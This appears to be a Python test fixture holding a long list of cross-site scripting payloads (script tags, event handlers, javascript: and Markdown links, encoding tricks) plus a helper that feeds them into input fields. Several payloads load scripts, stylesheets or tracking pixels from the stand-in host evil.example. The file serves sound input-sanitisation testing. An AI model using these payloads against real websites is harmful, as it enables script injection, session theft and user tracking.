"""Texts that would run `pwned()`, were any of them taken for markup, an address or code."""

from dataclasses import dataclass

RUN = "pwned(1)"
OUTSIDE = "https://evil.example"

VECTORS = [
    f"\"'></textarea></option></select><img src=x onerror={RUN}>",
    # elements that run
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={OUTSIDE}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN}//",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # handlers
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' >",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\t=\n{RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<style onload={RUN}></style>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<a href=x onclick={RUN} autofocus tabindex=0 onfocus={RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    # what leads or loads elsewhere
    f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href={OUTSIDE}/x.css>",
    f"<link rel=import href={OUTSIDE}/x.html>",
    f"<style>@import '{OUTSIDE}/x.css';</style>",
    f"<img src={OUTSIDE}/pixel.png>",
    f'<div style="background:url({OUTSIDE}/pixel.png)">x</div>',
    # out of an attribute, a text area, a title, a comment, a template
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f"` onfocus={RUN} autofocus x=`",
    f"</option></select><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f"{{{{ {RUN} }}}}{{% debug %}}",
    f"${{{RUN}}}`${{{RUN}}}`",
    # out of a script's string
    f'";{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"</ScRiPt ><img src=x onerror={RUN}>",
    f"\u2028{RUN}\u2029",
    f"<!--<script>{RUN}",
    # Markdown
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](\u0001javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"![x]({OUTSIDE}/pixel.png)",
    f'![x](x" onerror="{RUN})',
    f'[x]({OUTSIDE} "x" onclick="{RUN}")',
    f"[x]: javascript:{RUN}\n\n[x]",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"`</code><script>{RUN}</script>`",
    # encodings and look-alikes
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u202e<script>{RUN}</script>",
    f"<\u017fcript>{RUN}</\u017fcript>",
]

# One for each way out of where a text is put; the first breaks out of most of them.
ONE_OF_EACH_KIND = [
    f"\"'></textarea></option></select><img src=x onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f"<base href={OUTSIDE}/>",
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f"--><img src=x onerror={RUN}><!--",
    f"{{{{ {RUN} }}}}{{% debug %}}",
    f"${{{RUN}}}`${{{RUN}}}`",
    f'";{RUN};//',
    f"[x](javascript:{RUN})",
    f"![x]({OUTSIDE}/pixel.png)",
]


@dataclass
class Hostile:
    """Some vectors, taken in turn by each field."""

    vectors: list[str]
    at: int = 0

    def text(self, at_most: int = 20_000) -> str:
        """The next vectors, each whole, as far as there is room; at least the beginning of one."""
        text = ""
        for _ in self.vectors:
            vector = self.vectors[self.at % len(self.vectors)]
            if text and len(text) + 1 + len(vector) > at_most:
                break
            text = f"{text} {vector}".strip()
            self.at += 1
        return text[:at_most]

    def word(self, at_most: int = 40) -> str:
        """A vector without spaces."""
        return "".join(self.text(at_most).split())
